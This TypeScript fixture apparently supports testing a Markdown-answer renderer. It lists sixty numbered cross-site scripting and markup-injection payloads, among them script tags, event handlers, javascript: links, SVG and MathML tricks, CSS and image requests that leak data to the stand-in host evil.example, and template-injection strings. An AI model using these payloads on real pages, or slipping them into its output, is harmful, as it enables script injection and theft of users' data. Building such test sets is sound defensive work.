// Sixty texts that run a script, or call home, wherever a page takes text for more than text.

export interface Payload {
  text: string;
  /** What of it the reader of a Markdown answer sees. */
  inMarkdown: string;
}

/** Who calls home calls here; it is nobody. */
export const FOREIGN = 'evil.example';

/** `№` becomes the payload's number, so that a script that runs says which one it was. */
const MARKUP = [
  '<script>pwn(№)</script>',
  '<ScRiPt src=//evil.example/№.js></sCrIpT>',
  '"><script>pwn(№)</script>',
  '</title></textarea></style></script><script>pwn(№)</script>',
  '<script type=module>import("https://evil.example/№.js")</script>',
  '<img src=x onerror=pwn(№)>',
  '<img src=//evil.example/№.png>',
  '<img/src=x/onerror="pwn(№)"//>',
  '<img srcset="https://evil.example/№.png 2x">',
  '"autofocus onfocus=pwn(№) x="',
  "' onmouseover='pwn(№)",
  '<body onload=pwn(№)>',
  '<input autofocus onfocus=pwn(№)>',
  '<details open ontoggle=pwn(№)><summary>№</summary></details>',
  '<video autoplay src=x onerror=pwn(№)></video>',
  '<audio src=//evil.example/№.mp3 autoplay></audio>',
  '<b style="animation:spin 1s" onanimationstart=pwn(№)>№</b>',
  '<svg onload=pwn(№)></svg>',
  '<svg><script>pwn(№)</script></svg>',
  '<svg><animate onbegin=pwn(№) attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:pwn(№)"><text y=9>№</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=a onload=pwn(№)/>#a"/></svg>',
  '<math><mtext><table><mglyph><style><img src onerror=pwn(№)></style></table></math>',
  '<noscript><p title="</noscript><img src=x onerror=pwn(№)>"></noscript>',
  '<iframe src="javascript:pwn(№)"></iframe>',
  '<iframe srcdoc="<script>parent.pwn(№)</script>"></iframe>',
  '<object data="data:text/html,<script>pwn(№)</script>"></object>',
  '<embed src="//evil.example/№.swf">',
  '<form action="javascript:pwn(№)"><button autofocus>№</button></form>',
  '<form action=//evil.example/№><input name=t><button formaction=javascript:pwn(№)>№</button></form>',
  '<meta http-equiv=refresh content="0;url=//evil.example/№">',
  '<base href="//evil.example/№/">',
  '<link rel=stylesheet href="//evil.example/№.css">',
  '<link rel=dns-prefetch href="//№.evil.example">',
  '<style>@import "//evil.example/№.css";</style>',
  '<style>input[value^=a]{background:url(//evil.example/№)}</style>',
  '<div style="background:url(//evil.example/№)">№</div>',
  '<a href="java&#115;cript:pwn(№)">№</a>',
  '<!--><img src=x onerror=pwn(№)>-->',
  '<template shadowrootmode=open><img src=x onerror=pwn(№)></template>',
  '<x-№ onclick=pwn(№) tabindex=1 id=x>№</x-№>',
  '＜script＞pwn(№)＜/script＞ \u202e<script>pwn(№)</script>',
];

/** What it is, and what is left of it to see. */
const MARKDOWN: [text: string, seen: string][] = [
  ['[enlace №](javascript:pwn(№))', 'enlace №'],
  ['[enlace №](JaVaScRiPt&colon;pwn(№))', 'enlace №'],
  ['[enlace №](java&Tab;script:pwn(№))', 'enlace №'],
  ['[enlace №](<\u0001javascript:pwn(№)>)', 'enlace №'],
  ['[enlace №](vbscript:pwn(№))', 'enlace №'],
  ['[enlace №](data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=)', 'enlace №'],
  ['[enlace №](//evil.example/№ "onmouseover=pwn(№)")', 'enlace №'],
  ['![imagen №](https://evil.example/№.png?q=secreto)', 'imagen №'],
  ['![imagen №](x"onerror="pwn(№))', 'imagen №'],
  ['![imagen №][r№]\n\n[r№]: https://evil.example/№.png', 'imagen №'],
  ['[enlace №][j№]\n\n[j№]: javascript:pwn(№)', 'enlace №'],
  ['<javascript:pwn(№)>', 'javascript:pwn(№)'],
  ['<https://evil.example/№> https://evil.example/auto/№', 'https://evil.example/auto/№'],
  ['nota №[^n№]\n\n[^n№]: <img src=x onerror=pwn(№)>', 'nota №'],
  ['&lt;img src=x onerror=pwn(№)&gt; &#60;script&#62;pwn(№)', '<img src=x onerror=pwn(№)>'],
  ['```mermaid\ngraph TD; A["<img src=x onerror=pwn(№)>"]\nclick A "javascript:pwn(№)"\n```', 'graph TD'],
  ['$$\\href{javascript:pwn(№)}{clic №}$$ \\url{javascript:pwn(№)}', 'clic №'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: another's template, not ours.
  ['${pwn(№)} {{constructor.constructor("pwn(№)")()}} #{pwn(№)} <%= pwn(№) %>', 'pwn(№)'],
];

export const PAYLOADS: readonly Payload[] = [
  // HTML in an answer is shown as it was written, but for its entities.
  ...MARKUP.map((text) => ({ text, inMarkdown: text.replaceAll('&#115;', 's') })),
  ...MARKDOWN.map(([text, inMarkdown]) => ({ text, inMarkdown })),
].map(numbered);

function numbered({ text, inMarkdown }: Payload, at: number): Payload {
  const number = String(at + 1);
  return { text: text.replaceAll('№', number), inMarkdown: inMarkdown.replaceAll('№', number) };
}

/** For names: one line without control characters, at most 100 of them. */
export const NAMES: readonly string[] = PAYLOADS.map(({ text }) =>
  [...text.replaceAll(/\s+/g, ' ')]
    .filter((character) => character >= ' ')
    .slice(0, 100)
    .join('')
    .trim(),
);

/** As one reads it: white space is one space, and what has no width is not there. */
export function asRead(text: string): string {
  return text
    .replaceAll(/[\p{Cc}\p{Cf}]/gu, (character) => (/\s/.test(character) ? ' ' : ''))
    .replaceAll(/\s+/g, ' ')
    .trim();
}
